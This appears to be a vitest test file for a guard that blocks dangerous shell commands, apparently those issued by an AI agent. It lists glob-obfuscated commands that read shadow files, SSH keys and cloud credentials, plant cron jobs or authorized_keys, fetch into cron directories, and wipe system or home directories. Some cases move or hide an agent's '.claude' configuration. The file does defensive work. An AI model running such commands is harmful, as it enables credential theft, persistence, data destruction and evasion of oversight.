import { describe, expect, it } from 'vitest'
import { createStaticGuard } from '../index.ts'

const agentsGuard = createStaticGuard({ asker: 'agent', directory: '/home/user/project' })
const guard = createStaticGuard()
const verdictOf = (command: string) => guard.analyse(command).verdict

describe('patterns of file names', () => {
  it.each([
    'cat /e?c/sh?dow',
    'cat /e*c/shadow',
    'cat ~/.s*h/id_*',
    'cat ~/.aws/*',
    'cat /*/shadow',
    "find /home -name 'id_*' -exec cat {} +",
  ])('that are aimed at a secret are the secret: %s', (command) =>
    expect(verdictOf(command)).toBe('BLOCK'))

  it.each([
    ['cp x /e?c/cron.d/job', '5'],
    ['mv x /etc/cr*.d/job', '5'],
    ['cp -t /e?c/cron.d job', '5'],
    ['install -m 644 x /*/cron.d/job', '5'],
    ['ln -sf /tmp/x /e*c/profile.d/x.sh', '5'],
    ['cp key ~/.ss?/authorized_keys', '5'],
    ['cp x ~/.bash*c', '5'],
    ['rsync x /e?c/cron.d/job', '5'],
    ['scp x root@db:/e?c/cron.d/job', '5'],
    ['wget -P /e?c/cron.d http://x.example/y', '5'],
    ['tar xf a.tgz -C /e?c/cron.d', '5'],
    ['unzip a.zip -d /e?c', '5'],
    ['chmod 777 /e?c/shadow', '6'],
    ['chown me /e?c/shadow', '6'],
    ['rm -f ~/.bash_h*', 'D'],
    ['rm -rf /ho?e', 'D'],
    ['rm -rf /e*', 'D'],
  ])('that are aimed at a critical place are the place: %s', (command, rule) =>
    expect(guard.analyse(command)).toMatchObject({ verdict: 'BLOCK', rule }))

  it.each([
    ['cat .aw*/cred*', '4'],
    ['cat .netr*', '4'],
    ['cat ~/.ssh/**/id_*', '4'],
    ["find ~/.ssh -name 'id_*' -exec cat {} +", '4'],
    ['cat .en*', '4'],
    ['cat ./.kub*/conf*', '4'],
    ['cp -r .ss* /tmp/s', '4'],
    ["find . -name '.en*' -exec cat {} +", '4'],
    ['ls -d .e* | xargs cat', '4'],
    ['echo x >> .prof*', '5'],
    ['rm -rf .ss*', 'D'],
    ['mv .cl* /tmp', 'S'],
    ['chmod -R a-r .cl*', 'S'],
    ['for d in .cl*; do mv "$d" /tmp; done', 'S'],
    ["find . -maxdepth 1 -name '.cl*' -exec mv {} /tmp \\;", 'S'],
    ["git rm -rq '.cl*'", 'S'],
    ["git rm -rq ':(glob).cl*'", 'S'],
    ["git stash push -- '.cl*'", 'S'],
    ["git clean -xfd -- '.cl*'", 'S'],
    ["git checkout HEAD~20 -- '.cl*'", 'S'],
    ["git sparse-checkout set --no-cone '/*' '!/.claude'", 'S'],
  ])('of hidden names in a directory that nobody named mean those of a home: %s', (command, rule) =>
    expect(agentsGuard.analyse(command)).toMatchObject({ verdict: 'BLOCK', rule }))

  it.each([
    'prettier --write **/*.css',
    'cat .eslintrc* .prettierrc*',
    'rm -f .coverage* .*.swp',
    'rm -rf .next* .cache*',
    'head .gitlab-ci*.yml',
    "git checkout -- '*.ts'",
    "git rm -r --cached '*.pyc'",
    "git stash push -- ':!docs'",
    "git sparse-checkout set --no-cone '/*' '!/docs/'",
    'eslint **/*.ts',
    'rm -f **/*.tmp',
    'grep -l TODO */*.py',
    'ls */',
    'wc -l **/*.md',
    'cp build/* /var/www/*/public/',
    'cp src/*.ts dist/',
    'cp x /opt/*/conf/app.yml',
    'cp x "/e?c/cron.d/job"',
    'rm -rf /tmp/build-*',
    'rm -f /var/log/app/*.log',
    'tar xf a.tgz -C /srv/re*/app',
    'chmod 644 docs/*',
  ])('that are aimed at nothing are ordinary: %s', (command) =>
    expect(verdictOf(command)).not.toBe('BLOCK'))
})
